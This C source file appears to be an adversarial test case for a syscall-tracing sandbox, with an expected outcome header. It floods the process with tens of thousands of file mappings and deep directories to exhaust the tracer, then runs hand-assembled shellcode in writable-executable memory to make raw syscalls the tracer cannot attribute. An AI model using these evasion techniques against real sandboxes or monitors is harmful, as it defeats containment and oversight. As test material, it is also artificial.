// What is mapped where takes hundreds of megabytes to tell: the tracer asks, again and again.
// The first one takes long to go when it is killed; what is told is the second one's end.
// expect: outcome=fail step=bind not=SIGKILL
//@solution
/* dup(0), on a stack from which no way leads back into the program. */
static void call(void *code)
{
    static char nothing[65536];
    __asm__ volatile("mov %%rsp, %%r12\n mov %%rbp, %%r13\n mov %1, %%rsp\n xor %%ebp, %%ebp\n"
                     "call *%0\n mov %%r12, %%rsp\n mov %%r13, %%rbp\n"
                     :
                     : "r"(code), "r"(nothing + 32768)
                     : "r12", "r13", "rax", "rcx", "r11", "rdi", "r14", "memory");
}

int main(int argc, char **argv)
{
    /* pop r14; push 0; xor edi, edi; mov eax, 32; syscall; add rsp, 8; push r14; ret */
    static const unsigned char code[] = {0x41, 0x5e, 0x6a, 0,    0x31, 0xff, 0xb8, 0x20, 0,   0, 0,
                                         0x0f, 0x05, 0x48, 0x83, 0xc4, 8,    0x41, 0x56, 0xc3};
    if (serving(argc, argv)) {
        static char part[250];
        memset(part, 'x', sizeof part - 1);
        for (int i = 0; i < 14; i++)
            if (mkdir(part, 0755) != 0 || chdir(part) != 0)
                exit(1); /* it is there: of the first one */
        int fd = open("own.so", O_RDWR | O_CREAT, 0755);
        if (ftruncate(fd, 4096) != 0)
            exit(1);
        for (int i = 0; i < 65000; i++)
            if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
                break;
        char *page = mmap(NULL, 65536, PROT_READ | PROT_WRITE | PROT_EXEC,
                          MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        for (int child = 0; child < 4; child++) {
            pid_t pid = fork();
            for (int i = 0; i < 20 && pid == 0; i++) {
                memcpy(page + i * 128, code, sizeof code);
                call(page + i * 128);
                munmap(page + 61440, 4096);
                mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
            }
            if (pid == 0)
                _exit(0);
            waitpid(pid, NULL, 0);
        }
    }
    return honest_main(argc, argv);
}
